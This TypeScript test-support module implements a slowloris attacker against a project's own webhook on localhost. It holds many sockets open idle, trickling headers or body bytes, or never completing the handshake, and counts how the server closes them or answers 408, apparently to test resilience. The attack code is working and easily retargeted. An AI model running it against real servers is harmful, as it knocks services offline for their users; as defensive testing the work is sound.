/**
 * @module test/support/slowloris-attacker
 * Many idle and slow sockets against the webhook's TLS port, kept at a target count (a socket the
 * server closes is replaced): idle after the handshake, headers trickled a byte at a time, a body
 * trickled after a large Content-Length, and plain TCP that never starts the handshake. Counts
 * what the server did about them (closed, answered 408). Runs in-process (tests) or as its own
 * process (scripts/slowloris.ts, so the attack does not share an event loop with the client
 * whose latency is measured):
 *
 *   node --import tsx test/support/slowloris-attacker.ts PORT SOCKETS [TRICKLE_MS] [SOURCE_ADDRESS]
 *   (prints a JSON stats line every second; stops on SIGTERM)
 */
import { connect as tcpConnect, type Socket } from 'node:net';
import { connect as tlsConnect, type ConnectionOptions } from 'node:tls';
import { fileURLToPath } from 'node:url';

type AttackMode = 'idle' | 'slow-headers' | 'slow-body' | 'no-handshake';
const ATTACK_MODES: readonly AttackMode[] = ['idle', 'slow-headers', 'slow-body', 'no-handshake'];

export interface AttackStats {
  /** Sockets open right now. */
  open: number;
  opened: number;
  /** Closed by the server (or failed), and replaced. */
  closedByServer: number;
  /** Of those, how many got an HTTP 408 first. */
  got408: number;
  /** Connection attempts that failed outright (refused, reset during the handshake). */
  failedConnects: number;
  byMode: Record<AttackMode, number>;
}

export interface Attack {
  stats(): AttackStats;
  stop(): Promise<void>;
}

/** tls.connect passes socket options such as localAddress on to net.connect; its type omits them. */
function tlsOptions(port: number, localAddress: string | undefined): ConnectionOptions {
  const options = { host: '127.0.0.1', port, localAddress, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] };
  return options;
}

/** `localAddress`: the attacker's source address (another loopback address stands for another pod). */
export function startAttack(port: number, sockets: number, trickleMs = 1000, localAddress?: string): Attack {
  const live = new Set<Socket>();
  const stats: AttackStats = {
    open: 0,
    opened: 0,
    closedByServer: 0,
    got408: 0,
    failedConnects: 0,
    byMode: { idle: 0, 'slow-headers': 0, 'slow-body': 0, 'no-handshake': 0 },
  };
  let stopping = false;
  let n = 0;

  function open(): void {
    if (stopping) return;
    const mode = ATTACK_MODES[n++ % ATTACK_MODES.length];
    stats.opened++;
    stats.byMode[mode]++;
    let connected = false;
    let saw408 = false;
    let timer: NodeJS.Timeout | undefined;
    const onConnect = (s: Socket): void => {
      connected = true;
      if (mode === 'slow-headers') {
        s.write('POST /inject HTTP/1.1\r\nHost: localhost\r\n');
        let i = 0;
        timer = setInterval(() => s.write(`X-Slow-${i++}: a\r\n`), trickleMs);
      } else if (mode === 'slow-body') {
        s.write('POST /inject HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{');
        timer = setInterval(() => s.write(' '), trickleMs);
      }
    };
    const s: Socket =
      mode === 'no-handshake'
        ? tcpConnect({ host: '127.0.0.1', port, localAddress }, () => onConnect(s))
        : tlsConnect(tlsOptions(port, localAddress), () => onConnect(s));
    live.add(s);
    stats.open = live.size;
    s.on('data', (d: Buffer) => {
      if (d.toString('latin1').startsWith('HTTP/1.1 408')) saw408 = true;
    });
    s.on('error', () => undefined);
    s.once('close', () => {
      if (timer) clearInterval(timer);
      live.delete(s);
      stats.open = live.size;
      if (stopping) return;
      if (connected) stats.closedByServer++;
      else stats.failedConnects++;
      if (saw408) stats.got408++;
      // Keep the pressure: replace it (after a breath, so a refusing server is not hammered).
      setTimeout(open, connected ? 0 : 50);
    });
  }

  // Open in batches so the handshakes do not all land in the same millisecond.
  let started = 0;
  const ramp = setInterval(() => {
    for (let i = 0; i < 50 && started < sockets; i++, started++) open();
    if (started >= sockets) clearInterval(ramp);
  }, 20);

  return {
    stats: () => ({ ...stats, byMode: { ...stats.byMode } }),
    async stop() {
      stopping = true;
      clearInterval(ramp);
      for (const s of live) s.destroy();
      live.clear();
      stats.open = 0;
      await new Promise((r) => setTimeout(r, 50));
    },
  };
}

if (process.argv[1] !== undefined && fileURLToPath(import.meta.url) === process.argv[1]) {
  const [port, sockets, trickle] = process.argv.slice(2, 5).map(Number);
  const source = process.argv[5];
  const attack = startAttack(port, sockets, trickle || 1000, source);
  const tick = setInterval(() => process.stdout.write(`${JSON.stringify(attack.stats())}\n`), 1000);
  process.once('SIGTERM', () => {
    clearInterval(tick);
    process.stdout.write(`${JSON.stringify(attack.stats())}\n`);
    void attack.stop().then(() => process.exit(0));
  });
}
